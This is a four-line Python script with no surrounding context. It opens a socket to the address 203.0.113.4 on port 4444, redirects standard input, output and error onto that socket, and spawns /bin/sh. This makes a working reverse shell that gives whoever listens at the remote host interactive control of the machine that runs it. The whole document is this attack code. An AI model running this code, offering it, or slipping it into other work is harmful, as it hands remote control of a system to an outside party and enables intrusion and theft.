import os, pty, socket
s = socket.create_connection(('203.0.113.4', 4444))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn('/bin/sh')
